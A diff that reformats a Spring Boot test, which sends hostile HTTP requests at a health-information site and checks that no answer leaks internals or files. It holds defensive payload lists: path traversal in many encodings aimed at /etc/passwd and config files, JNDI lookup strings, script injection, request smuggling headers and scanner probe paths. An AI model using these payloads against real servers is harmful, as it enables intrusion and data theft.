@@ -25,10 +25,11 @@ import org.springframework.boot.test.context.SpringBootTest;
 import static org.assertj.core.api.Assertions.assertThat;
 
 /**
- * What scanners, attackers and broken clients send: path traversal in every encoding, null bytes,
- * huge or malformed request lines and headers, odd methods, ranges, repeated parameters. Every
- * one gets a plain 2xx, 3xx or 4xx answer that gives nothing away: no stack trace, no class
- * names, no server paths or versions, and no file from outside the site.
+ * What scanners, attackers and broken clients send: path traversal in every encoding,
+ * null bytes, huge or malformed request lines and headers, odd methods, ranges, repeated
+ * parameters. Every one gets a plain 2xx, 3xx or 4xx answer that gives nothing away: no
+ * stack trace, no class names, no server paths or versions, and no file from outside the
+ * site.
  */
 @SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
 class HostileRequestsTest extends WebTestSupport {
@@ -42,24 +43,31 @@ class HostileRequestsTest extends WebTestSupport {
 	/** Too long for the server to read: refused outright. */
 	static final Integer[] TOO_LARGE = { 400, 413, 414, 431 };
 
-	/** Signs of internals: stack traces, class and package names, paths on the server, versions. */
+	/**
+	 * Signs of internals: stack traces, class and package names, paths on the server,
+	 * versions.
+	 */
 	static final List<String> INTERNALS = List.of("Exception", "java.", "javax.", "jakarta.", "org.springframework",
 			"org.apache", "com.legspasms", "com/legspasms", "\tat ", "/work/", "/root", "/tmp", "/home/", ".java",
 			"target/", "BOOT-INF", "Tomcat", "Apache Tomcat/", "Servlet", "Whitelabel", "Thymeleaf");
 
 	/** Signs of a file from outside the site's own content. */
-	static final List<String> FOREIGN_FILES = List.of("root:x:0:0", "/bin/bash", "<project", "<modelVersion",
-			"spring:", "site:", "content-dir", "---\ntitle:", "\ntitle: ", "[core]", "repositoryformatversion",
-			"Manifest-Version", "Main-Class", "Start-Class", "PK\u0003\u0004", "<web-app", "[extensions]", "PATH=",
-			"HOME=", "JAVA_HOME");
+	static final List<String> FOREIGN_FILES = List.of("root:x:0:0", "/bin/bash", "<project", "<modelVersion", "spring:",
+			"site:", "content-dir", "---\ntitle:", "\ntitle: ", "[core]", "repositoryformatversion", "Manifest-Version",
+			"Main-Class", "Start-Class", "PK\u0003\u0004", "<web-app", "[extensions]", "PATH=", "HOME=", "JAVA_HOME");
 
-	/** What {@link WebClient#rawRequest} reports for an answer without a status line (HTTP/0.9). */
+	/**
+	 * What {@link WebClient#rawRequest} reports for an answer without a status line
+	 * (HTTP/0.9).
+	 */
 	static final int HTTP_09 = -1;
 
 	/** A host that must never be echoed back. */
 	static final String EVIL_HOST = "evil.example";
 
-	/** The ways to write "../" that servers, proxies and frameworks have been tricked by. */
+	/**
+	 * The ways to write "../" that servers, proxies and frameworks have been tricked by.
+	 */
 	static final List<String> DOT_DOT_SLASH = List.of("../", "..%2f", "..%2F", "%2e%2e%2f", "%2E%2E%2F", "%2e%2e/",
 			".%2e/", "%2e./", "%252e%252e%252f", "..%252f", "%25%32%65%25%32%65%25%32%66", "..\\", "..%5c", "..%5C",
 			"%2e%2e%5c", "%252e%252e%255c", "%c0%ae%c0%ae%c0%af", "%c0%ae%c0%ae/", "..%c0%af", "%e0%80%ae%e0%80%ae/",
@@ -70,9 +78,9 @@ class HostileRequestsTest extends WebTestSupport {
 	static final List<String> TRAVERSAL_BASES = List.of("/articles/", "/css/", "/topics/", "/");
 
 	/** What the traversals try to reach. */
-	static final List<String> TRAVERSAL_TARGETS = List.of("etc/passwd", "pom.xml",
-			"src/main/resources/application.yml", "content/articles/spinal-stenosis.md", "WEB-INF/web.xml",
-			"META-INF/MANIFEST.MF", "BOOT-INF/classes/application.yml", "application.yml", ".git/config",
+	static final List<String> TRAVERSAL_TARGETS = List.of("etc/passwd", "pom.xml", "src/main/resources/application.yml",
+			"content/articles/spinal-stenosis.md", "WEB-INF/web.xml", "META-INF/MANIFEST.MF",
+			"BOOT-INF/classes/application.yml", "application.yml", ".git/config",
 			"target/leg-spasms-site-0.1.0-SNAPSHOT.jar", "proc/self/environ",
 			"com/legspasms/web/SiteErrorController.class", "windows/win.ini");
 
@@ -100,7 +108,8 @@ class HostileRequestsTest extends WebTestSupport {
 					.expect(REFUSED_OR_NOT_FOUND));
 			}
 		}
-		// Every target, straight from the root, through a static file and with absolute paths.
+		// Every target, straight from the root, through a static file and with absolute
+		// paths.
 		for (String target : TRAVERSAL_TARGETS) {
 			rows.add(get("/css/site.css/../../../../../../" + target).expect(REFUSED_OR_NOT_FOUND));
 		}
@@ -144,9 +153,9 @@ class HostileRequestsTest extends WebTestSupport {
 		rows.add(get("/search?q=cramp&page=1%00").expect(400));
 		rows.add(get("/search?%00=cramp"));
 		rows.add(get("/css/site.css?%00"));
-		for (String target : List.of("/articles/%", "/articles/%zz", "/articles/%e9", "/articles/%c3%28", "/%",
-				"/%zz", "/articles/%2", "/articles/%%", "/articles/%u0041", "/topics/%ff%fe", "/css/%e9",
-				"/css/site.css%", "/articles/%ed%a0%80", "/articles/%f4%90%80%80")) {
+		for (String target : List.of("/articles/%", "/articles/%zz", "/articles/%e9", "/articles/%c3%28", "/%", "/%zz",
+				"/articles/%2", "/articles/%%", "/articles/%u0041", "/topics/%ff%fe", "/css/%e9", "/css/site.css%",
+				"/articles/%ed%a0%80", "/articles/%f4%90%80%80")) {
 			rows.add(get(target).expect(REFUSED_OR_NOT_FOUND));
 		}
 		for (String query : List.of("q=%", "q=%zz", "q=%e9", "q=%c3%28", "q=%ff%fe%fd", "%=%", "q=%%%%")) {
@@ -166,8 +175,9 @@ class HostileRequestsTest extends WebTestSupport {
 		rows.add(get("/search?q=" + "%e2%9c%93".repeat(3_000)).expect(200));
 		rows.add(get("/search?q=" + "a".repeat(70_000)).expect(TOO_LARGE));
 		rows.add(get("/search?" + "q=a&".repeat(2_500)).expect(200, 400));
-		rows.add(get("/search?" + IntStream.range(0, 3_000).mapToObj((i) -> "p" + i + "=1")
-			.collect(Collectors.joining("&"))).expect(200, 400));
+		rows.add(get(
+				"/search?" + IntStream.range(0, 3_000).mapToObj((i) -> "p" + i + "=1").collect(Collectors.joining("&")))
+			.expect(200, 400));
 		rows.add(get("/?" + "x".repeat(10_000)).expect(200));
 	}
 
@@ -184,12 +194,15 @@ class HostileRequestsTest extends WebTestSupport {
 		rows.add(get("127.0.0.1:80").method("CONNECT").expect(400, 405));
 		rows.add(get(EVIL_HOST + ":443").method("CONNECT").header("Host: " + EVIL_HOST + ":443").expect(400, 405));
 		rows.add(get("/").method("PROPFIND").header("Depth: infinity").expect(405));
-		for (String method : List.of("MKCOL", "COPY", "MOVE", "LOCK", "UNLOCK", "PROPPATCH", "SEARCH", "REPORT",
-				"BREW", "FOO", "get", "Get", "DEBUG", "X".repeat(1_000))) {
+		for (String method : List.of("MKCOL", "COPY", "MOVE", "LOCK", "UNLOCK", "PROPPATCH", "SEARCH", "REPORT", "BREW",
+				"FOO", "get", "Get", "DEBUG", "X".repeat(1_000))) {
 			rows.add(get("/").method(method).expect(405));
 		}
-		rows.add(get("/search?q=cramp").method("POST").header("Content-Type: application/x-www-form-urlencoded")
-			.header("Content-Length: 7").body("q=cramp").expect(405));
+		rows.add(get("/search?q=cramp").method("POST")
+			.header("Content-Type: application/x-www-form-urlencoded")
+			.header("Content-Length: 7")
+			.body("q=cramp")
+			.expect(405));
 		rows.add(get("/").method("POST").header("Content-Length: 2000000000").expect(405));
 		rows.add(get("/error").method("POST").header("Content-Length: 0").expect(405));
 		rows.add(get("/articles/spinal-stenosis").method("HEAD").expect(200));
@@ -213,8 +226,8 @@ class HostileRequestsTest extends WebTestSupport {
 		// Obsolete line folding: Tomcat joins the lines, as RFC 9112 allows.
 		rows.add(get("/").header("X-Folded: a").header(" b").expect(200, 400));
 		rows.add(get("/").header("X-Latin-1: caf\u00e9 \u00ff"));
-		rows.add(get("/").header("X-Utf-8: " + new String("caf\u00e9 \u2713".getBytes(StandardCharsets.UTF_8),
-				StandardCharsets.ISO_8859_1)));
+		rows.add(get("/").header("X-Utf-8: "
+				+ new String("caf\u00e9 \u2713".getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1)));
 		rows.add(get("/").headers(numberedHeaders(90)).expect(200));
 		rows.add(get("/").headers(numberedHeaders(2_000)).expect(TOO_LARGE));
 		rows.add(get("/").headers(Collections.nCopies(50, "Accept: text/html")).expect(200));
@@ -228,7 +241,9 @@ class HostileRequestsTest extends WebTestSupport {
 		rows.add(get("/").header("Content-Length: -1").expect(400));
 		rows.add(get("/").header("Content-Length: abc").expect(400));
 		rows.add(get("/").header("Content-Length: 1").header("Content-Length: 2").expect(400));
-		rows.add(get("/").header("Content-Length: 5").header("Transfer-Encoding: chunked").body("0\r\n\r\n")
+		rows.add(get("/").header("Content-Length: 5")
+			.header("Transfer-Encoding: chunked")
+			.body("0\r\n\r\n")
 			.expect(400));
 		rows.add(get("/").header("If-None-Match: *").expect(200, 304));
 		rows.add(get("/").header("If-None-Match: \"garbage").expect(200));
@@ -237,12 +252,15 @@ class HostileRequestsTest extends WebTestSupport {
 		rows.add(get("/").header("Expect: 100-continue").expect(200));
 		rows.add(get("/").header("Referer: javascript:alert(1)").expect(200));
 		rows.add(get("/").header("User-Agent: ${jndi:ldap://x.invalid/a}").expect(200));
-		rows.add(get("/").header("X-Forwarded-Host: " + EVIL_HOST).header("X-Forwarded-Proto: gopher")
-			.header("X-Forwarded-For: 127.0.0.1, ::1, <script>").header("Forwarded: for=\"_x\";host=" + EVIL_HOST)
+		rows.add(get("/").header("X-Forwarded-Host: " + EVIL_HOST)
+			.header("X-Forwarded-Proto: gopher")
+			.header("X-Forwarded-For: 127.0.0.1, ::1, <script>")
+			.header("Forwarded: for=\"_x\";host=" + EVIL_HOST)
 			.expect(200));
 		rows.add(get("/no-such-page").header("X-Forwarded-Host: " + EVIL_HOST).expect(404));
 		rows.add(get("/articles/spinal-stenosis").header("X-Original-URL: /etc/passwd")
-			.header("X-Rewrite-URL: /pom.xml").expect(200));
+			.header("X-Rewrite-URL: /pom.xml")
+			.expect(200));
 		rows.add(get("/").header("X-HTTP-Method-Override: DELETE").expect(200));
 		rows.add(get("/").header("Authorization: Basic " + "A".repeat(1_000)).expect(200));
 	}
@@ -278,18 +296,16 @@ class HostileRequestsTest extends WebTestSupport {
 			rows.add(get(file).header("Range: bytes=a-b").expect(416));
 			rows.add(get(file).header("Range: bytes=10-5").expect(416));
 			rows.add(get(file).range("items=0-10").expect(200, 206, 416));
-			rows.add(get(file).header("Range: bytes=" + String.join(",", Collections.nCopies(200, "0-0")))
-				.expect(416));
-			rows.add(get(file).header("Range: bytes=" + String.join(",", Collections.nCopies(50, "0-")))
-				.expect(416));
+			rows.add(get(file).header("Range: bytes=" + String.join(",", Collections.nCopies(200, "0-0"))).expect(416));
+			rows.add(get(file).header("Range: bytes=" + String.join(",", Collections.nCopies(50, "0-"))).expect(416));
 			rows.add(get(file).range("bytes=0-10").header("If-Range: \"nonsense").expect(200, 206));
 			rows.add(get(file).header("Range: bytes=99999999999999999999-").expect(400, 416));
 		}
 	}
 
 	private static void searchParameters(List<Row> rows) {
-		for (String query : List.of("q=a&q=b", "q=cramp&q=spasm&q=", "q[]=x", "q[0]=x&q[1]=y", "q[a][b]=x",
-				"q.x=1", "q=cramp&page=-1", "q=cramp&page=0", "q=cramp&page=2147483647", "q=cramp&page=-2147483648",
+		for (String query : List.of("q=a&q=b", "q=cramp&q=spasm&q=", "q[]=x", "q[0]=x&q[1]=y", "q[a][b]=x", "q.x=1",
+				"q=cramp&page=-1", "q=cramp&page=0", "q=cramp&page=2147483647", "q=cramp&page=-2147483648",
 				"q=cramp&page[]=1", "q=cramp&page=", "q=cramp&page", "q=cramp&page=0x10", "q=cramp;page=2", "page=5",
 				"q=cramp&page=1&page=2", "q=cramp&q[]=x&q[0]=y&page[]=1&page[0]=2", "q=${jndi:ldap://x.invalid/a}",
 				"q=<script>alert(1)</script>", "q=cramp&class.module.classLoader.URLs%5B0%5D=0",
@@ -304,12 +320,11 @@ class HostileRequestsTest extends WebTestSupport {
 
 	private static void scanners(List<Row> rows) {
 		for (String path : List.of("/.git/config", "/.git/HEAD", "/.env", "/.env.local", "/.htaccess", "/.DS_Store",
-				"/.svn/entries", "/actuator", "/actuator/env", "/actuator/heapdump",
-				"/manager/html", "/host-manager/html", "/examples/", "/docs/", "/admin", "/wp-admin/", "/wp-login.php",
-				"/phpmyadmin/", "/server-status", "/cgi-bin/test.cgi", "/index.jsp", "/x.jsp", "/index.html",
-				"/config.json", "/api/users", "/graphql", "/h2-console", "/jolokia", "/swagger-ui.html",
-				"/v3/api-docs", "/favicon.ico", "/articles/SPINAL-STENOSIS",
-				"/articles/spinal-stenosis.json", "/css/", "/css", "/css/SITE.CSS",
+				"/.svn/entries", "/actuator", "/actuator/env", "/actuator/heapdump", "/manager/html",
+				"/host-manager/html", "/examples/", "/docs/", "/admin", "/wp-admin/", "/wp-login.php", "/phpmyadmin/",
+				"/server-status", "/cgi-bin/test.cgi", "/index.jsp", "/x.jsp", "/index.html", "/config.json",
+				"/api/users", "/graphql", "/h2-console", "/jolokia", "/swagger-ui.html", "/v3/api-docs", "/favicon.ico",
+				"/articles/SPINAL-STENOSIS", "/articles/spinal-stenosis.json", "/css/", "/css", "/css/SITE.CSS",
 				"/css/site-00000000000000000000000000000000.css", "/css/site.css.bak", "/css/site.css~",
 				"/css/site.css::$DATA", "/articles/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
 				"/articles/<script>alert(1)</script>", "/%24%7Bjndi%3Aldap%3A%2F%2Fx.invalid%2Fa%7D")) {
@@ -321,7 +336,8 @@ class HostileRequestsTest extends WebTestSupport {
 		for (String path : List.of("/error", "/error?status=500", "/error/404")) {
 			rows.add(get(path).expect(404));
 		}
-		// The site's own stylesheet (found with the slash when the classes are a folder, not in the jar).
+		// The site's own stylesheet (found with the slash when the classes are a folder,
+		// not in the jar).
 		rows.add(get("/css/site.css/").expect(200, 404));
 		rows.add(get("/%2e/").expect(200, 400, 404));
 		rows.add(get("/%2e%2e/").expect(REFUSED_OR_NOT_FOUND));
@@ -357,7 +373,8 @@ class HostileRequestsTest extends WebTestSupport {
 				"GET http://" + EVIL_HOST + "/ HTTP/1.1\r\nHost: " + EVIL_HOST + "\r\nConnection: close\r\n\r\n")
 			.expect(200, 400));
 		rows.add(whole("HTTP/1.1 with a Host header naming another site",
-				"GET / HTTP/1.1\r\nHost: " + EVIL_HOST + "\r\nConnection: close\r\n\r\n").expect(200));
+				"GET / HTTP/1.1\r\nHost: " + EVIL_HOST + "\r\nConnection: close\r\n\r\n")
+			.expect(200));
 		rows.add(get("/").header("Host: " + EVIL_HOST).expect(200));
 		rows.add(get("/no-such-page").header("Host: " + EVIL_HOST).expect(404));
 		rows.add(whole("HTTP/1.1 without a Host header", "GET / HTTP/1.1\r\nConnection: close\r\n\r\n").expect(400));
@@ -365,11 +382,13 @@ class HostileRequestsTest extends WebTestSupport {
 				"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: " + EVIL_HOST + "\r\nConnection: close\r\n\r\n")
 			.expect(400));
 		rows.add(whole("Host header with a bad port",
-				"GET / HTTP/1.1\r\nHost: 127.0.0.1:abc\r\nConnection: close\r\n\r\n").expect(400));
-		rows.add(whole("Host header with a space",
-				"GET / HTTP/1.1\r\nHost: evil example\r\nConnection: close\r\n\r\n").expect(400));
+				"GET / HTTP/1.1\r\nHost: 127.0.0.1:abc\r\nConnection: close\r\n\r\n")
+			.expect(400));
+		rows.add(whole("Host header with a space", "GET / HTTP/1.1\r\nHost: evil example\r\nConnection: close\r\n\r\n")
+			.expect(400));
 		rows.add(whole("Host header with an unclosed IPv6 bracket",
-				"GET / HTTP/1.1\r\nHost: [::1\r\nConnection: close\r\n\r\n").expect(400));
+				"GET / HTTP/1.1\r\nHost: [::1\r\nConnection: close\r\n\r\n")
+			.expect(400));
 		rows.add(whole("Host header that disagrees with the absolute-form target",
 				"GET http://127.0.0.1/ HTTP/1.1\r\nHost: " + EVIL_HOST + "\r\nConnection: close\r\n\r\n")
 			.expect(200, 400));
@@ -397,16 +416,18 @@ class HostileRequestsTest extends WebTestSupport {
 	}
 
 	/**
-	 * Tomcat still speaks HTTP/0.9 to a request line without a protocol: the answer is the body
-	 * alone, with no status line. These rows come last because Tomcat carries that over: the next
-	 * request its recycled processor fails to parse is answered without a status line too.
+	 * Tomcat still speaks HTTP/0.9 to a request line without a protocol: the answer is
+	 * the body alone, with no status line. These rows come last because Tomcat carries
+	 * that over: the next request its recycled processor fails to parse is answered
+	 * without a status line too.
 	 */
 	private static void http09(List<Row> rows) {
 		rows.add(whole("HTTP/0.9 request line", "GET /\r\n\r\n").http09());
 		rows.add(whole("HTTP/0.9 request for a file outside the site", "GET /../../etc/passwd\r\n\r\n").http09());
 		rows.add(whole("HTTP/0.9 request for a missing page", "GET /.git/config\r\n\r\n").http09());
 		rows.add(whole("HTTP/0.9 request with another method", "DELETE /\r\n\r\n").http09());
-		// Read as the target "HTTP/1.0" with no protocol: an HTTP/0.9 request for a page that cannot be.
+		// Read as the target "HTTP/1.0" with no protocol: an HTTP/0.9 request for a page
+		// that cannot be.
 		rows.add(whole("request line with no target", "GET  HTTP/1.0\r\n\r\n").http09());
 	}
 
@@ -418,15 +439,16 @@ class HostileRequestsTest extends WebTestSupport {
 	@MethodSource("hostileRequests")
 	void hostileRequestGetsAPlainAnswerThatGivesNothingAway(Row row) {
 		WebClient.RawResponse response = send(row);
-		String description = row + "\n--- answer ---\n"
-				+ abbreviate(response.head() + "\n\n" + response.body(), 2_000);
+		String description = row + "\n--- answer ---\n" + abbreviate(response.head() + "\n\n" + response.body(), 2_000);
 		Set<Integer> allowed = new LinkedHashSet<>(ALLOWED);
 		if (row.partialContent()) {
-			// A satisfiable range of a static file is answered with just that part, as HTTP intends.
+			// A satisfiable range of a static file is answered with just that part, as
+			// HTTP intends.
 			allowed.add(206);
 		}
 		if (row.isHttp09()) {
-			// HTTP/0.9 has no status line: the answer is the page itself or the site's 400 page.
+			// HTTP/0.9 has no status line: the answer is the page itself or the site's
+			// 400 page.
 			allowed.add(HTTP_09);
 		}
 		assertThat(response.status()).as(description).isIn(allowed);
@@ -479,7 +501,9 @@ class HostileRequestsTest extends WebTestSupport {
 		assertThat(rows.stream().map(Row::toString)).doesNotHaveDuplicates();
 	}
 
-	/** The leak checks look for text that really is in the files a traversal would reach. */
+	/**
+	 * The leak checks look for text that really is in the files a traversal would reach.
+	 */
 	@Test
 	void theLeakMarkersAreInTheFilesTheyGuard() throws IOException {
 		assertThat(Files.readString(Path.of("pom.xml"))).contains("<project", "<modelVersion");
@@ -512,21 +536,22 @@ class HostileRequestsTest extends WebTestSupport {
 
 	static String abbreviate(String text, int max) {
 		String visible = text.chars()
-			.mapToObj((c) -> ((c < 0x20 && c != '\n') || c == 0x7f) ? String.format("\\x%02x", c)
-					: Character.toString(c))
+			.mapToObj(
+					(c) -> ((c < 0x20 && c != '\n') || c == 0x7f) ? String.format("\\x%02x", c) : Character.toString(c))
 			.collect(Collectors.joining());
-		return (visible.length() <= max) ? visible
-				: visible.substring(0, max) + "…(" + text.length() + " characters)";
+		return (visible.length() <= max) ? visible : visible.substring(0, max) + "…(" + text.length() + " characters)";
 	}
 
 	/**
-	 * One hostile request: normally a method, request target, extra headers and body sent as
-	 * HTTP/1.0, or else the whole request exactly as written.
+	 * One hostile request: normally a method, request target, extra headers and body sent
+	 * as HTTP/1.0, or else the whole request exactly as written.
 	 *
-	 * @param expected the statuses this request may get, or {@code null} for any in {@link #ALLOWED}
-	 * (-1 stands for an HTTP/0.9 answer, which has no status line)
-	 * @param partialContent whether 206 is a right answer (a Range header on a static file)
-	 * @param bodyWithout text that must not be in the answer to this request in particular
+	 * @param expected the statuses this request may get, or {@code null} for any in
+	 * {@link #ALLOWED} (-1 stands for an HTTP/0.9 answer, which has no status line)
+	 * @param partialContent whether 206 is a right answer (a Range header on a static
+	 * file)
+	 * @param bodyWithout text that must not be in the answer to this request in
+	 * particular
 	 */
 	record Row(String description, String method, String target, List<String> headers, String body,
 			Set<Integer> expected, boolean partialContent, String whole, List<String> bodyWithout) {
@@ -549,8 +574,8 @@ class HostileRequestsTest extends WebTestSupport {
 
 		Row range(String range) {
 			Row withRange = header("Range: " + range);
-			return new Row(withRange.description, withRange.method, withRange.target, withRange.headers,
-					withRange.body, withRange.expected, true, withRange.whole, withRange.bodyWithout);
+			return new Row(withRange.description, withRange.method, withRange.target, withRange.headers, withRange.body,
+					withRange.expected, true, withRange.whole, withRange.bodyWithout);
 		}
 
 		Row body(String body) {
